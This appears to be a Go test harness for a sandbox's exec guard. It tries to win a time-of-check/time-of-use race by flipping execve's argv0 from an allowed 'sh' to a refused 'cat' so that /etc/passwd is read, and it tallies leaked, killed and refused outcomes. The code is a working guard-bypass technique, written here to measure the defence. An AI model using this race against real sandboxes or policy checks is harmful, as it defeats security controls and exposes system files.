// Command racer tries to win the race the exec guard closes: one thread
// calls execve("/bin/sh", [argv0, "/etc/passwd"]) while another flips
// argv0 between "sh" (allowed) and "cat" (refused), so the guard may read
// "sh" and the kernel copy "cat". Run as "racer N": it starts N children
// and prints how each ended, as JSON.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

func child() {
	path := []byte("/bin/sh\x00")
	argv0 := []byte("sh\x00\x00")
	arg1 := []byte("/etc/passwd\x00")
	argv := []uintptr{uintptr(unsafe.Pointer(&argv0[0])), uintptr(unsafe.Pointer(&arg1[0])), 0}
	env := []uintptr{0}
	started := make(chan struct{})
	go func() {
		close(started)
		for {
			copy(argv0, "cat")
			copy(argv0, "sh\x00")
		}
	}()
	<-started
	// Syscall, not RawSyscall: the flipping goroutine keeps its thread.
	_, _, e := syscall.Syscall(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(&path[0])),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&env[0])))
	fmt.Fprintln(os.Stderr, "execve:", e)
	os.Exit(99)
}

func main() {
	if len(os.Args) > 1 && os.Args[1] == "child" {
		child()
	}
	n, _ := strconv.Atoi(os.Args[1])
	counts := map[string]int{}
	for i := 0; i < n; i++ {
		cmd := exec.Command("/proc/self/exe", "child")
		out, _ := cmd.Output()
		ws := cmd.ProcessState.Sys().(syscall.WaitStatus)
		switch {
		case strings.Contains(string(out), "root:"):
			counts["leaked"]++
		case ws.Signaled() && ws.Signal() == syscall.SIGKILL:
			counts["killed"]++
		case ws.ExitStatus() == 99:
			counts["refused"]++
		default:
			counts["ran sh"]++
		}
	}
	json.NewEncoder(os.Stdout).Encode(counts)
}
